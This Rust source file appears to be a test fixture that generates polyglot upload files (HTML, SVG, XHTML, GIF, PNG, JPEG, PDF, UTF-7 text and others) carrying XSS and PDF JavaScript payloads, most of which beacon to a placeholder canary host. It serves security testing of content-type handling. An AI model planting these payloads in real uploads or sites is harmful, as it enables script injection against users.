//! Files whose bytes would do something if a browser took them for more than bytes.

/// Names, contents.
pub fn files(canary: &str) -> Vec<(&'static str, Vec<u8>)> {
    let html = format!("<!doctype html><script>alert(1);fetch('//{canary}/html')</script>");
    let svg = format!(
        "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\">\
         <script>fetch('//{canary}/svg')</script><image href=\"//{canary}/svg.png\"/></svg>"
    );
    let xml = format!(
        "<?xml version=\"1.0\"?><?xml-stylesheet href=\"//{canary}/x.xsl\" type=\"text/xsl\"?>\
         <x><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script></x>"
    );
    let gif = format!("GIF89a/*{}*/=1;alert(1);fetch('//{canary}/gif');//<script>alert(1)</script>", "\0".repeat(8));
    let png = [b"\x89PNG\r\n\x1a\n".as_slice(), html.as_bytes()].concat();
    let jpeg = [b"\xff\xd8\xff\xe0\0\x10JFIF\0".as_slice(), html.as_bytes()].concat();
    let webp = [b"RIFF\x24\0\0\0WEBPVP8 ".as_slice(), html.as_bytes()].concat();
    let pdf = format!(
        "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);\
         app.launchURL('http://{canary}/pdf'))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n\
         trailer<</Root 1 0 R>>\n%%EOF"
    );
    let mhtml = format!("MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{html}");
    let utf7 = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-".to_owned();
    let utf16: Vec<u8> = html.encode_utf16().fold(vec![0xff, 0xfe], |mut bytes, unit| {
        bytes.extend(unit.to_le_bytes());
        bytes
    });
    vec![
        ("a.html", html.clone().into_bytes()),
        ("a.html.png", html.clone().into_bytes()),
        ("a.svg", svg.clone().into_bytes()),
        ("a.svg.png", svg.into_bytes()),
        ("a.xml", xml.clone().into_bytes()),
        ("a.xhtml", xml.into_bytes()),
        ("a.gif", gif.into_bytes()),
        ("a.png", png),
        ("a.jpg", jpeg),
        ("a.webp", webp),
        ("a.pdf", pdf.into_bytes()),
        ("a.mht", mhtml.into_bytes()),
        ("a.txt", utf7.into_bytes()),
        ("utf16.html", utf16),
        ("a.js", format!("alert(1);fetch('//{canary}/js')").into_bytes()),
        ("a.json", format!("{{\"x\":\"{}\"}}", html.replace('"', "'")).into_bytes()),
        ("none", [b"   \n\t".as_slice(), html.as_bytes()].concat()),
        ("later.txt", [&[b' '; 600], html.as_bytes()].concat()),
        ("a.css", format!("@import '//{canary}/css';").into_bytes()),
        ("a.swf", [b"FWS\x08".as_slice(), html.as_bytes()].concat()),
    ]
}
